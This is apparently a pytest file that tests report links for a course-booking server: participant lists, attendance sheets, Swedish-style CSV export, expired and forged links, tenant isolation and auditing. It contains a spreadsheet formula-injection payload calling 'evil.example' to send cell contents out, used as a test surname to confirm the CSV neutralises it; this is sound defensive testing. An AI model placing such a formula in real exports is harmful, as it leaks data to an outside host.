"""Report links (issue 16) over real HTTP, SQLite and PostgreSQL: a round's participant list
and attendance sheet behind ``/reports/{token}``; CSV in Excel's Swedish form with formula
payloads neutralised; an expired link is a 410 page and a forged one a 404 page, in English
and Swedish; a link never shows another tenant's round; every opening is audited."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date, timedelta

import pytest
import requests
from sqlalchemy import select

from models import CourseRound, Registration, RegistrationStatus
from models.audit import AuditEvent
from models.ids import new_id, utcnow
from server.services.reports import PARTICIPANT_COLUMNS, issue_report_links
from tests.approval.helpers import course_and_round, person, pushed, text_of
from tests.server.helpers import World, cmd

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'


@dataclass
class Round:
    world: World
    round_id: str
    day: date


def make_round(world: World) -> Round:
    """A round with two sessions, two registered participants (one with a formula for a
    surname), one on the waiting list and one cancelled."""
    round_id = course_and_round(world)
    day = date.today() + timedelta(days=30)
    pushed(
        world,
        cmd(
            "session.add",
            session_id=new_id(),
            round_id=round_id,
            day=day.isoformat(),
            start_minute=9 * 60,
            end_minute=12 * 60,
        ),
        cmd(
            "session.add",
            session_id=new_id(),
            round_id=round_id,
            day=(day + timedelta(days=1)).isoformat(),
            start_minute=13 * 60,
        ),
    )
    org, erik = new_id(), new_id()
    pushed(
        world,
        cmd("organisation.create", organisation_id=org, name=f"Lunds Firma AB {org[-6:]}"),
        cmd(
            "person.create",
            person_id=erik,
            first_name="Erik",
            last_name="Lund",
            organisation_id=org,
            emails=[{"address": "erik.lund@firma.se"}],
            phones=[{"number": "+46701234567"}],
        ),
        role="admin",
    )
    people = [
        erik,
        person(world, "Åsa", PAYLOAD, "asa@firma.se"),
        person(world, "Vera", "Väntar", "vera@firma.se"),
        person(world, "Carl", "Avbokad", "carl@firma.se"),
    ]
    regs = [new_id() for _ in people]
    pushed(
        world,
        *(
            cmd("registration.create", registration_id=r, round_id=round_id, participant_id=p)
            for r, p in zip(regs, people, strict=True)
        ),
        cmd("registration.cancel", registration_id=regs[3]),
    )
    with world.db.transaction() as s:  # the ORM, so the row gets its server_seq
        s.get_one(Registration, regs[2]).status = RegistrationStatus.WAITING
    return Round(world, round_id, day)


def links(
    world: World, round_id: str, *, days_ago: int = 0, tenant_id: str | None = None
) -> tuple[str, str]:
    """Links issued ``days_ago`` (the clock moved back: a link's age is what expires it)."""
    with world.db.transaction() as s:
        issued = issue_report_links(
            s,
            base_url=world.url,
            tenant_id=tenant_id or world.tenant_id,
            round_id=round_id,
            sent_by="kansli@example.se",
            now=utcnow() - timedelta(days=days_ago),
        )
    return issued.participant_list, issued.attendance_sheet


def test_the_link_shows_the_participant_list_and_gives_it_as_csv(world: World) -> None:
    case = make_round(world)
    participants, _attendance = links(world, case.round_id)
    page = requests.get(participants, params={"lang": "en"}, timeout=30)
    assert page.status_code == 200
    assert page.headers["Cache-Control"] == "no-store"
    shown = text_of(page.text)
    assert "Participant list" in shown and "Projektledning HT26" in shown
    assert "Lund Erik Lunds Firma AB" in shown and "erik.lund@firma.se +46701234567" in shown
    assert "Väntar Vera" in shown and "Waiting list" in shown
    assert "Avbokad" not in shown  # a cancelled registration is not on the list
    assert "3 participants" in shown

    resp = requests.get(participants, params={"format": "csv", "lang": "sv"}, timeout=30)
    assert resp.status_code == 200
    assert resp.headers["Content-Type"].startswith("text/csv")
    assert resp.headers["Content-Disposition"].startswith("attachment")
    assert resp.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig")), delimiter=";"))
    header, *body = rows
    assert header[:3] == ["Förnamn", "Efternamn", "E-post"]
    assert "Personnummer" not in header
    by_first = {row[0]: row for row in body}
    assert set(by_first) == {"Erik", "Åsa", "Vera"}
    # The formula arrives as text, never as a formula.
    assert by_first["Åsa"][1] == "'" + PAYLOAD
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert by_first["Erik"][header.index("Utbildningsomgång")] == "Projektledning HT26"


def test_the_attendance_sheet_has_a_column_per_session_with_empty_boxes(world: World) -> None:
    case = make_round(world)
    _participants, attendance = links(world, case.round_id)
    page = requests.get(attendance, params={"lang": "en"}, timeout=30)
    assert page.status_code == 200
    shown = text_of(page.text)
    assert "Attendance sheet" in shown
    assert f"{case.day.isoformat()} 09:00–12:00" in shown
    assert f"{(case.day + timedelta(days=1)).isoformat()} 13:00" in shown
    assert "Erik Lund" in shown and "Vera" not in shown  # no place, no row
    assert page.text.count('<td class="box"></td>') == 2 * 2
    resp = requests.get(attendance, params={"format": "csv", "lang": "en"}, timeout=30)
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Participant", "Organisation"] and len(rows[0]) == 4
    assert sorted(r[0] for r in rows[1:]) == ["Erik Lund", "Åsa " + PAYLOAD]
    assert all(r[2:] == ["", ""] for r in rows[1:])


#: What the page of an unusable link says: its heading and its text, by language.
EXPIRED = {
    "en": ("This link can no longer be used", "This link to a participant list expired on"),
    "sv": ("Länken kan inte längre användas", "Länken till en deltagarlista gick ut"),
}
FORGED = {
    "en": ("Link not valid", "This link is not valid"),
    "sv": ("Länken är inte giltig", "Kontrollera att du öppnade hela länken"),
}


def page_text(url: str, lang: str, status: int) -> str:
    """The text of the page at ``url`` in ``lang``, which answers ``status``."""
    resp = requests.get(url, params={"lang": lang}, timeout=30)
    assert resp.status_code == status, (url, resp.text)
    return text_of(resp.text)


@pytest.mark.parametrize("lang", ["en", "sv"])
def test_an_expired_link_is_a_clear_410_page(world: World, lang: str) -> None:
    case = make_round(world)
    participants, attendance = links(world, case.round_id, days_ago=15)
    expired_on = (utcnow() - timedelta(days=1)).date().isoformat()
    for url in (participants, f"{participants}?format=csv"):
        shown = page_text(url, lang, 410)
        assert all(words in shown for words in EXPIRED[lang]) and expired_on in shown
        assert "Lund" not in shown
    assert "Lund" not in page_text(attendance, lang, 410)
    # Thirteen days old: still works.
    fresh, _ = links(world, case.round_id, days_ago=13)
    assert "Lund" in page_text(fresh, lang, 200)


@pytest.mark.parametrize("lang", ["en", "sv"])
def test_a_forged_link_is_a_clear_404_page(world: World, lang: str) -> None:
    for token in ("x" * 43, "short", "%00" * 30, "a" * 500):
        shown = page_text(f"{world.url}/reports/{token}", lang, 404)
        assert all(words in shown for words in FORGED[lang]), token


def test_a_link_never_shows_another_tenants_round(world: World, other_world: World) -> None:
    theirs = make_round(other_world)
    # A token of our tenant naming their round: refused as a link to nothing.
    participants, attendance = links(world, theirs.round_id)
    for url in (participants, attendance, f"{participants}?format=csv"):
        resp = requests.get(url, params={"lang": "en"}, timeout=30)
        assert resp.status_code == 404
        assert "Lund" not in resp.text


def test_every_download_is_audited(world: World) -> None:
    case = make_round(world)
    participants, attendance = links(world, case.round_id)
    for url in (participants, f"{participants}?format=csv", attendance):
        assert requests.get(url, timeout=30).status_code == 200
    with world.db.sessions() as s:
        events = s.scalars(
            select(AuditEvent).where(
                AuditEvent.tenant_id == world.tenant_id, AuditEvent.action == "report.downloaded"
            )
        ).all()
    got = sorted((e.entity_id, e.details["report"], e.details["format"]) for e in events)
    assert got == [
        (case.round_id, "report_attendance", "html"),
        (case.round_id, "report_participant_list", "csv"),
        (case.round_id, "report_participant_list", "html"),
    ]
    assert all("token" not in str(e.details) and "kansli@" not in str(e.details) for e in events)


def test_a_link_to_a_removed_round_is_a_clear_404_page(world: World) -> None:
    case = make_round(world)
    participants, _attendance = links(world, case.round_id)
    with world.db.transaction() as s:  # the ORM, so the tombstone gets its server_seq
        s.get_one(CourseRound, case.round_id).deleted_at = utcnow()
    shown = page_text(participants, "en", 404)
    assert "The course round of this list no longer exists." in shown
    assert "Lund" not in shown
    assert "Utbildningsomgången som listan gäller finns inte längre." in page_text(
        participants, "sv", 404
    )


def test_the_list_has_the_desktop_exports_columns_without_the_personnummer() -> None:
    from desktop.participants.export import LIST_KEYS, PERSON_HEADERS

    expected = [key for key, _title in PERSON_HEADERS if key != "personnummer"] + list(LIST_KEYS)
    assert [key for key, _title in PARTICIPANT_COLUMNS] == expected
